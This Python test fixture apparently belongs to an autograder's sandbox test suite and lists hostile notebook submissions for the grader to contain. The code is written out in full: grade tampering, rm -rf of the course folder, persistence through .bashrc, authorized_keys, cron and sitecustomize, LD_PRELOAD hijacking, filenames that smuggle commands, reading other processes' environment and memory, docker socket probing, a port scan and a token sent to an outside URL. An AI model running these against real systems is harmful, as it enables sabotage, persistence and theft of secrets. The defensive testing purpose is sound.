"""Submissions that are after the marks, the work and the machine of others."""

from tests.hostile.submission import ALL, PREDICT, SHIFT, UNSET, Hostile


def loot(name: str, tries: str, code: str) -> Hostile:
    """The right numbers are taken from where they should not be seen."""
    cell = f"{UNSET}\n{code.strip()}"
    return Hostile(name, tries, predict=cell, keeps=SHIFT, loses=PREDICT)


BANK = [
    Hostile(
        "gradebook",
        "It gives everybody else no points, in every database that it finds.",
        before="""
import glob, sqlite3

for path in glob.glob(OUT["course"] + "/**/*.db", recursive=True) + glob.glob("./**/*.db", recursive=True):
    for name in (path, f"file:{path}?mode=rw&nolock=1&vfs=unix-none"):
        book = sqlite3.connect(name, uri=True)
        book.execute("UPDATE grade SET auto_score = 0 WHERE student != 'mallory'")
        book.commit()
""",
        keeps=ALL,
    ),
    Hostile(
        "all_deleted",
        "It deletes the teacher's folder: gradebook, configuration, submissions.",
        before="""
import shutil

shutil.rmtree(OUT["course"], ignore_errors=True)
os.system(f"rm -rf '{OUT['course']}'")
""",
        keeps=ALL,
    ),
    Hostile(
        "all_appended",
        "It writes to each file of the teacher's folder, and changes its mode and its time.",
        before="""
from pathlib import Path

for path in Path(OUT["course"]).rglob("*"):
    for act in (
        lambda: path.open("a").write(TOKEN),
        lambda: path.chmod(0o777),
        lambda: os.utime(path, (0, 0)),
        lambda: os.link(path, f"{path}.linked"),
        lambda: os.rename(path, f"{path}.moved"),
        lambda: os.truncate(path, 0),
        lambda: os.chown(path, 65534, 65534),
    ):
        try:
            act()
        except OSError:
            pass
""",
        keeps=ALL,
    ),
    Hostile(
        "another_student",
        "It puts its own notebook in the place of another student's.",
        before="""
for folder in (OUT["course"] + "/submitted", "..", "../..", "/submitted"):
    for student in ("alice", *(os.listdir(folder) if os.path.isdir(folder) else [])):
        try:
            with open(f"{folder}/{student}/02/02.ipynb", "w") as file:
                file.write("{}")
        except OSError:
            pass
""",
        keeps=ALL,
    ),
    Hostile(
        "own_submission",
        "It changes its own submission after it was handed in.",
        before="""
with open(OUT["course"] + "/submitted/mallory/02/02.ipynb", "w") as file:
    file.write("{}")
""",
        keeps=ALL,
    ),
    Hostile(
        "graders_on_disk",
        "It edits the graders and the library where they are installed, for those who come after it.",
        before="""
import minicheck, minidist

assert boxed()
for package in (minicheck, minidist):
    for folder, _, files in os.walk(os.path.dirname(package.__file__)):
        for name in [*files, "hostile.py", "__pycache__/hostile.cpython-311.pyc"]:
            if name.endswith((".py", ".pyc")) and (name.startswith(("hostile", "__py")) or name == "exam.py"):
                try:
                    os.chmod(folder, 0o777)
                    open(os.path.join(folder, name), "a").write("# " + TOKEN)
                except OSError:
                    pass
""",
        keeps=ALL,
    ),
    Hostile(
        "compiled",
        "It puts compiled files beside the graders, and asks for a cache of them elsewhere.",
        before="""
import py_compile, sys
import minicheck

assert boxed()
with open("poison.py", "w") as file:
    file.write(f"print({TOKEN!r})")
here = os.path.dirname(minicheck.__file__)
for target in (f"{here}/__pycache__/{TOKEN}.pyc", f"{here}/{TOKEN}.pyc", f"/tmp/{TOKEN}.pyc"):
    try:
        py_compile.compile("poison.py", target)
    except OSError:
        pass
sys.pycache_prefix = OUT["course"]
os.environ["PYTHONPYCACHEPREFIX"] = OUT["course"]
""",
        keeps=ALL,
    ),
    Hostile(
        "site_packages",
        "It leaves a sitecustomize, a .pth file and a plugin in the environment, which every later Python would run.",
        before="""
import site, sys

assert boxed()
for folder in [*sys.path, site.getusersitepackages(), *site.getsitepackages()]:
    for name in ("sitecustomize.py", "usercustomize.py", f"{TOKEN}.pth", "conftest.py"):
        try:
            os.makedirs(folder, exist_ok=True)
            if not os.path.exists(os.path.join(folder, name)):
                open(os.path.join(folder, name), "w").write("# " + TOKEN)
        except OSError:
            pass
""",
        keeps=ALL,
    ),
    Hostile(
        "home",
        "It leaves its start-up files in the home folders: for shells, IPython, Jupyter, git and ssh.",
        before="""
import pwd

assert boxed()
homes = {entry.pw_dir for entry in pwd.getpwall()} | {os.path.expanduser("~"), "/root"}
for home in homes:
    for name in (
        ".bashrc",
        ".profile",
        ".gitconfig",
        ".ssh/authorized_keys",
        ".ipython/profile_default/startup/00.py",
        ".jupyter/jupyter_config.py",
        ".jupyter/nbgrader_config.py",
        ".config/matplotlib/matplotlibrc",
        ".local/share/jupyter/kernels/python3/kernel.json",
    ):
        try:
            os.makedirs(os.path.dirname(os.path.join(home, name)), exist_ok=True)
            open(os.path.join(home, name), "a").write("# " + TOKEN + "\\n")
        except OSError:
            pass
""",
        keeps=ALL,
    ),
    Hostile(
        "later",
        "It leaves work for later: cron, at, systemd, a spool.",
        before="""
import subprocess

assert boxed()
line = f"# {TOKEN}\\n".encode()
for command in (["crontab", "-"], ["at", "now", "+", "1", "minute"], ["batch"], ["systemd-run", "--user", "true"]):
    try:
        subprocess.run(command, input=line, timeout=5)
    except (OSError, subprocess.TimeoutExpired):
        pass
for path in ("/etc/cron.d/x", "/var/spool/cron/crontabs/root", "/etc/profile.d/x.sh", "/var/tmp/x", "/run/x", "/etc/x"):
    try:
        open(path, "a").write(line.decode())
    except OSError:
        pass
""",
        keeps=ALL,
    ),
    Hostile(
        "preloaded",
        "It sets LD_PRELOAD, PYTHONPATH, PYTHONSTARTUP and PATH for whatever is started after it.",
        before="""
os.makedirs("bin", exist_ok=True)
for name in ("python", "python3", "bwrap", "sh", "sitecustomize.py", "torch.py"):
    with open(f"bin/{name}", "w") as file:
        file.write(f"#!/bin/sh\\necho {TOKEN} > {OUT['course']}/ran\\nexit 0\\n")
    os.chmod(f"bin/{name}", 0o777)
here = os.path.abspath("bin")
os.environ |= {
    "LD_PRELOAD": f"{here}/torch.py",
    "PYTHONPATH": here,
    "PYTHONSTARTUP": f"{here}/sitecustomize.py",
    "PYTHONHOME": here,
    "PATH": here,
    "TMPDIR": OUT["course"],
}
""",
        keeps=ALL,
    ),
    Hostile(
        "links_for_the_cleaner",
        "It turns its work folder into links to the teacher's files, for whoever copies from it or deletes it as root.",
        after="""
import shutil

os.makedirs("deep/er", exist_ok=True)
for where in (".", "deep", "deep/er", "/tmp", "/dev/shm", os.path.expanduser("~")):
    try:
        for name in os.listdir(where):
            if os.path.isfile(os.path.join(where, name)):
                os.unlink(os.path.join(where, name))
                os.symlink(OUT["course"] + "/gradebook.db", os.path.join(where, name))
        os.symlink(OUT["course"], os.path.join(where, "course"))
        os.symlink("/", os.path.join(where, "root"))
    except OSError:
        pass
""",
        keeps=ALL,
    ),
    Hostile(
        "names",
        "It makes files whose names are commands, options and escapes of the terminal.",
        before="""
for name in ("-rf", "--help", "; touch x", "$(touch x)", "`touch x`", "\\x1b]0;x\\x07\\x1b[2J", "\\n", "a" * 255, "\\udc80"):
    open(name, "w").close()
folder = "d"
for _ in range(2000):
    os.mkdir(folder)
    os.chdir(folder)
""",
        keeps=ALL,
    ),
    # ------------------------------------------------------------
    # What it may not read: whoever does has the right answer.
    Hostile(
        "solutions_read",
        "It reads the solved notebook beside the submissions, and runs its cells.",
        shift="""
import glob, json

for path in glob.glob(OUT["course"] + "/s*/**/*.ipynb", recursive=True):
    if "mallory" not in path:
        for cell in json.load(open(path))["cells"]:
            exec(cell["source"])
""",
        predict="pass",
        loses=ALL,
    ),
    Hostile(
        "course_read",
        "It reads the text of the course, where solutions stand between two marks.",
        shift="""
import glob, sys

for root in {OUT["root"], *sys.path, ".", "..", "../..", os.environ.get("PYTHONPATH", ".")}:
    for path in glob.glob(root + "/course/02*/assignment.py"):
        text = open(path).read()
        exec(text[text.index("def shift") : text.index("# %%", text.index("def shift"))])
    for path in glob.glob(root + "/solutions/02*/*.ipynb"):
        import json
        for cell in json.load(open(path))["cells"]:
            if "def shift" in "".join(cell["source"]):
                exec("".join(cell["source"]))
""",
        keeps=PREDICT,
        loses=SHIFT,
    ),
    Hostile(
        "planted_read",
        "It reads the planted answers and the tests of the graders, which tell right from wrong.",
        shift="""
import glob, sys

for root in {OUT["root"], *sys.path}:
    for name in ("tests/minicheck/test_notebook.py", "course/02*/bugs.py"):
        for path in glob.glob(f"{root}/{name}"):
            text = open(path).read()
            if "def shift" in text:
                at = text.index("def shift(comm, x, places):\\n    n, r")
                exec(text[at : at + text[at:].index('\"\"\"')])
""",
        keeps=PREDICT,
        loses=SHIFT,
    ),
    loot(
        "file_read",
        "It reads a file of the teacher's.",
        'take(open(OUT["course"] + "/secret.json").read())',
    ),
    loot(
        "environment", "It reads the teacher's environment.", 'take("".join(os.environ.values()))'
    ),
    loot(
        "environments_of_others",
        "It reads the environment of every process that it sees.",
        """
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        text = open(f"/proc/{pid}/environ").read()
        if "loot" in text:
            take(text)
    except OSError:
        pass
""",
    ),
    loot(
        "roots_of_others",
        "It looks through the root, the folder and the open files of every process.",
        """
import glob

for link in [*glob.glob("/proc/*/root"), *glob.glob("/proc/*/cwd"), "/proc/1/root", "/proc/self/root"]:
    try:
        take(open(link + OUT["course"] + "/secret.json").read())
    except (OSError, ValueError):
        pass
for link in glob.glob("/proc/*/fd/*"):
    try:
        if os.path.isfile(link):
            take(open(link).read(1000))
    except (OSError, ValueError):
        pass
""",
    ),
    loot(
        "inherited_files",
        "It reads every file descriptor that it was given.",
        """
for fd in range(3, 1000):
    try:
        take(os.pread(fd, 1000, 0).decode(errors="replace"))
    except (OSError, ValueError):
        pass
""",
    ),
    loot(
        "folder_descriptors",
        "It climbs from every open folder to the outside with openat.",
        """
for fd in range(0, 1000):
    for path in (OUT["course"][1:], "../" * 20 + OUT["course"][1:]):
        try:
            take(open(os.open(path + "/secret.json", os.O_RDONLY, dir_fd=fd)).read())
        except (OSError, ValueError):
            pass
""",
    ),
    loot("shared_memory", "It reads the shared memory of others.", 'take(open(OUT["shm"]).read())'),
    loot(
        "memory_of_others",
        "It reads another process's memory, by /proc, process_vm_readv and ptrace.",
        """
import ctypes, re

c = ctypes.CDLL(None, use_errno=True)
for pid in {OUT["victim"], OUT["marker"], os.getppid(), 1}:
    c.ptrace(16, pid, 0, 0)
    c.syscall(310, pid, None, 0, None, 0, 0)
    try:
        for line in open(f"/proc/{pid}/maps"):
            if "[heap]" in line or "[stack]" in line:
                low, high = (int(x, 16) for x in line.split()[0].split("-"))
                memory = open(f"/proc/{pid}/mem", "rb")
                memory.seek(low)
                text = memory.read(high - low).decode("latin1")
                if '{"loot"' in text:
                    take(text)
    except (OSError, ValueError):
        pass
""",
    ),
    # ------------------------------------------------------------
    # The network.
    loot(
        "tcp",
        "It asks a server on the teacher's machine.",
        """
import socket

for host in ("127.0.0.1", "localhost", "0.0.0.0", "::1", socket.gethostname(), "10.0.2.2", "172.17.0.1"):
    try:
        with socket.create_connection((host, OUT["port"]), timeout=2) as one:
            take(one.recv(1000).decode())
    except (OSError, ValueError):
        pass
""",
    ),
    loot(
        "udp",
        "It asks a server with a datagram.",
        """
import socket

one = socket.socket(type=socket.SOCK_DGRAM)
one.settimeout(2)
one.sendto(b"?", ("127.0.0.1", OUT["port"]))
take(one.recv(1000).decode())
""",
    ),
    loot(
        "abstract_socket",
        "It asks a server that has an abstract name instead of an address.",
        """
import socket

one = socket.socket(socket.AF_UNIX)
one.connect(OUT["abstract"])
take(one.recv(1000).decode())
""",
    ),
    loot(
        "socket_with_a_path",
        "It asks a server by the path of its socket, and looks for docker's and the bus's.",
        """
import glob, socket

for path in [OUT["course"] + "/talk", "/var/run/docker.sock", "/run/dbus/system_bus_socket", *glob.glob("/tmp/**/*sock*", recursive=True)]:
    try:
        with socket.socket(socket.AF_UNIX) as one:
            one.settimeout(2)
            one.connect(path)
            take(one.recv(1000).decode())
    except (OSError, ValueError):
        pass
""",
    ),
    Hostile(
        "names_of_the_network",
        "It asks for names, fetches pages, sends what it knows, and scans.",
        before="""
import socket, threading, urllib.request

def fetch():
    try:
        urllib.request.urlopen("http://example.com/?" + TOKEN, timeout=5)
    except OSError:
        pass
    for port in range(1, 2000):
        with socket.socket() as one:
            one.settimeout(0.01)
            one.connect_ex(("127.0.0.1", port))

threading.Thread(target=fetch, daemon=True).start()
for family in (socket.AF_NETLINK, socket.AF_PACKET, 38, 40, 41):
    for kind in (socket.SOCK_RAW, socket.SOCK_DGRAM, socket.SOCK_SEQPACKET):
        try:
            socket.socket(family, kind)
        except OSError:
            pass
""",
        keeps=ALL,
    ),
]
